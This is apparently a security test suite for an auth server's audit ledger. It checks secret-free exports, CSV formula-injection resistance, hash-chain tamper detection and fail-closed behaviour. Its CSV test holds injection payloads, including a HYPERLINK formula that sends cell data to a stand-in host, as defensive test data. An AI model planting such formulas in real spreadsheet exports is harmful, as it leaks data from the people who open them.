import { join } from 'node:path';
import { attack, type Pair, type System, startSystem } from '@gatepass/testing';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { parseCsv } from '../../../testing/parse-csv.ts';
import { headToLastRow, rewriteFrom, tamper } from '../../../testing/tamper.ts';
import { fromCell } from '../../../usecases/export-ledger/csv-cell.ts';

interface Verification {
  readonly intact: boolean;
  readonly rows: number;
  readonly finding: string | null;
}

let system: System;
let pair: Pair;
let database: string;

beforeAll(async () => {
  system = await startSystem({ api: true });
  pair = await system.createClient();
  database = join(system.dataDir, 'gatepass.db');
});
afterAll(() => system.stop());

const exported = async (format: string) => {
  const answer = await fetch(`${system.issuer}/api/v1/admin/ledger/export?format=${format}`, {
    headers: { authorization: `Bearer ${system.operatorToken}` },
  });
  expect(answer.status).toBe(200);
  return answer.text();
};

async function verify(anchors?: readonly string[]): Promise<Verification> {
  const body = anchors === undefined ? undefined : { anchors };
  const answer = await system.admin<Verification>('POST', '/ledger/verify', body);
  expect(answer.status).toBe(200);
  return answer.body;
}

const anchor = async () => (await system.admin<{ signed: string }>('GET', '/ledger/anchor')).body.signed;

attack('C09', 'no export of the ledger holds a secret or the digest of one', async (report) => {
  await system.admin('POST', '/apis', { name: 'API', audience: 'https://other.example' });
  for (const format of ['csv', 'jsonl']) {
    const text = await exported(format);
    expect(text).toContain('secret.created');
    // What is secret of them begins behind prefix and id.
    for (const secret of [pair.clientSecret, system.operatorToken])
      expect(text).not.toContain(secret.slice(13));
    expect(text).not.toMatch(/digest|rsapi_|rsop_|rsec_/);
    report(`the ledger as ${format}, after a client, an API and an operator were made`, '200; ids alone');
  }
});

attack(
  'W15',
  'no cell of an export is executed by a spreadsheet, and each can be read back',
  async (report) => {
    const FORMULA = '1+1';
    const names = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
      .map((sign) => `${sign}${FORMULA}`)
      .concat('a;=1+1', `"=1+1"`, 'a "quoted", name', `=HYPERLINK("http://x.example?"&A1,"a")`, `'=1+1`);
    for (const name of names) {
      expect((await system.admin('POST', '/partners', { name })).status).toBe(201);
    }
    for (const name of ['\t=1+1', '\r=1+1', 'a\n=1+1']) {
      expect((await system.admin('POST', '/partners', { name })).status).toBe(400);
      report(`a partner named ${JSON.stringify(name)}`, '400');
    }
    // As if they had come in by another way.
    const unusual = ['\t=1+1', '\r=1+1', 'a\r\n=1+1', '  =1+1'];
    for (const name of unusual) {
      const { body } = await system.admin<{ id: string }>('POST', '/partners', { name: 'x' });
      await tamper(database, (file) =>
        file.prepare('UPDATE partner SET name = ? WHERE id = ?').run(name, body.id),
      );
    }

    const [header = [], ...records] = parseCsv(await exported('csv'));
    const at = header.indexOf('subject_name');
    for (const name of [...names, ...unusual]) {
      const record = records.find((cells) => fromCell(cells[at] ?? '') === name);
      expect(record, name).toBeDefined();
      report(
        `a row about a partner named ${JSON.stringify(name)}`,
        `the cell ${JSON.stringify(record?.[at])}`,
      );
    }
    for (const cell of records.flat()) {
      for (const part of cell.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    }
    for (const record of records) expect(record).toHaveLength(header.length);
  },
);

/** Does something to the database's file, sees what is found, and puts the file's rows back. */
async function whileTampered(work: Parameters<typeof tamper>[1], look: () => Promise<void>): Promise<void> {
  await tamper(database, (file) => {
    file.exec('DROP TABLE IF EXISTS kept_rows; DROP TABLE IF EXISTS kept_head');
    file.exec(
      'CREATE TABLE kept_rows AS SELECT * FROM ledger; CREATE TABLE kept_head AS SELECT * FROM ledger_head',
    );
    work(file);
  });
  await look();
  await tamper(database, (file) => {
    file.exec('DELETE FROM ledger; INSERT INTO ledger SELECT * FROM kept_rows');
    file.exec('DELETE FROM ledger_head; INSERT INTO ledger_head SELECT * FROM kept_head');
    file.exec('DROP TABLE kept_rows; DROP TABLE kept_head');
  });
  expect((await verify()).intact).toBe(true);
}

describe('W24', () => {
  attack('W24', 'whoever edits, deletes or reorders rows is found at the first bad one', async (report) => {
    for (const [what, sql, finding] of [
      [
        'one byte of a row changed',
        `UPDATE ledger SET entry = replace(entry, '"before":null', '"before":nulL') WHERE sequence = 4`,
        'row 4 does not have the hash of its text',
      ],
      ['a row deleted', 'DELETE FROM ledger WHERE sequence = 4', 'row 4 is missing; row 5 follows'],
      [
        'two rows swapped',
        'UPDATE ledger SET sequence = 9 - sequence + 1000 WHERE sequence IN (4, 5); UPDATE ledger SET sequence = sequence - 1000 WHERE sequence > 1000',
        'row 4 does not follow row 3',
      ],
    ] as const) {
      await whileTampered(
        (file) => file.exec(sql),
        async () => {
          expect(await verify()).toMatchObject({ intact: false, rows: 3, finding });
          report(what, `verify: ${finding}`);
        },
      );
    }
  });

  attack(
    'W24',
    'a cut tail and a rewritten chain are found by an anchor, which the chain cannot',
    async (report) => {
      const kept = await anchor();
      const { rows } = await verify();
      await whileTampered(
        (file) => {
          file.exec(`DELETE FROM ledger WHERE sequence > ${rows - 2}`);
          headToLastRow(file);
        },
        async () => {
          expect((await verify()).intact).toBe(true);
          report('the last rows deleted and the head set back, without an anchor', 'verify: intact');
          const { finding } = await verify([kept]);
          expect(finding).toMatch(new RegExp(`^row ${rows - 1} is missing: at .* there was a row ${rows}$`));
          report('the same, held against an anchor', 'verify: the first row that was cut is missing');
        },
      );
      await whileTampered(
        (file) => rewriteFrom(file, 4, (entry) => ({ ...entry, actor: 'operator:opr_other' })),
        async () => {
          expect((await verify()).intact).toBe(true);
          report('a row changed and every later hash made to fit, without an anchor', 'verify: intact');
          const { finding } = await verify([kept]);
          expect(finding).toMatch(new RegExp(`^rows 1 to ${rows} are not what was signed at .*: rewritten$`));
          report(
            'the same, held against an anchor',
            'verify: the rows up to the anchor are not what was signed',
          );
        },
      );
    },
  );

  attack('W24', 'an anchor is no token, for the server or for a guarded API', async (report) => {
    const bearer = await anchor();
    const api = await fetch(`${system.apiUrl}/v1/accounts/acc_1/status`, {
      headers: { authorization: `Bearer ${bearer}` },
    });
    expect(api.status).toBe(401);
    report('an anchor as Authorization: Bearer of the API', '401');
    const { body } = await system.admin<{ api_key: string }>('POST', '/apis', {
      name: 'Asks',
      audience: 'https://asks.example',
    });
    const introspected = await fetch(`${system.issuer}/api/v1/oauth/introspect`, {
      method: 'POST',
      headers: { authorization: `Bearer ${body.api_key}` },
      body: new URLSearchParams({ token: bearer }),
    });
    expect(await introspected.json()).toEqual({ active: false });
    report('an anchor to introspection', '200 {"active":false}');
    const admin = await fetch(`${system.issuer}/api/v1/admin/partners`, {
      headers: { authorization: `Bearer ${bearer}` },
    });
    expect(admin.status).toBe(401);
    report('an anchor as an operator’s token', '401');
  });

  attack('W24', 'what cannot be recorded is not done', async (report) => {
    const before = await verify();
    const count = async () =>
      (await system.admin<{ items: unknown[] }>('GET', '/partners?limit=1000')).body.items.length;
    const partners = await count();
    await tamper(database, (file) =>
      file.exec(`
        CREATE TRIGGER ledger_is_full BEFORE INSERT ON ledger BEGIN SELECT RAISE(ABORT, 'no room'); END
      `),
    );
    for (const [what, method, path, body] of [
      ['a partner made', 'POST', '/partners', { name: 'Lost' }],
      ['a client disabled', 'POST', `/clients/${pair.clientId}/disable`, { reason: 'test' }],
    ] as const) {
      const answer = await system.admin<{ type: string }>(method, path, body);
      expect([answer.status, answer.body.type]).toEqual([503, 'urn:gatepass:problem:unavailable']);
      report(`${what}, while the ledger takes no rows`, '503, and nothing was changed');
    }
    await tamper(database, (file) => file.exec('DROP TRIGGER ledger_is_full'));
    expect(await count()).toBe(partners);
    expect((await system.requestToken(pair)).token_type).toBe('Bearer');
    expect(await verify()).toEqual(before);
    expect((await system.admin('POST', '/partners', { name: 'Kept' })).status).toBe(201);
  });
});
